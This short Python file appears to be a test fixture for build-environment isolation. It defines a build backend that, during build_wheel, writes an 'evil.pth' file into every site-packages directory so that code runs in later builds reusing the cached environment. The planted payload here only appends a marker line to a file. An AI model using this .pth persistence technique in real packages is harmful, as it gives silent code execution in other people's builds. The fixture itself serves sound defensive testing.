"""An attack: a build backend that plants a .pth file in its own (cached) build environment,
so that it would run in every later build that reuses the environment.  The .pth appends
to the file named by PLANTED_PTH_MARKER, wherever it runs."""

import os
import site

from hatchling.build import build_sdist, build_wheel as _build_wheel  # noqa: F401

PTH = ("import os; p = os.environ.get('PLANTED_PTH_MARKER'); "
       "p and open(p, 'a').write('ran in ' + os.getcwd() + chr(10))\n")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    for directory in site.getsitepackages():
        with open(os.path.join(directory, "evil.pth"), "w") as fh:
            fh.write(PTH)
    return _build_wheel(wheel_directory, config_settings, metadata_directory)
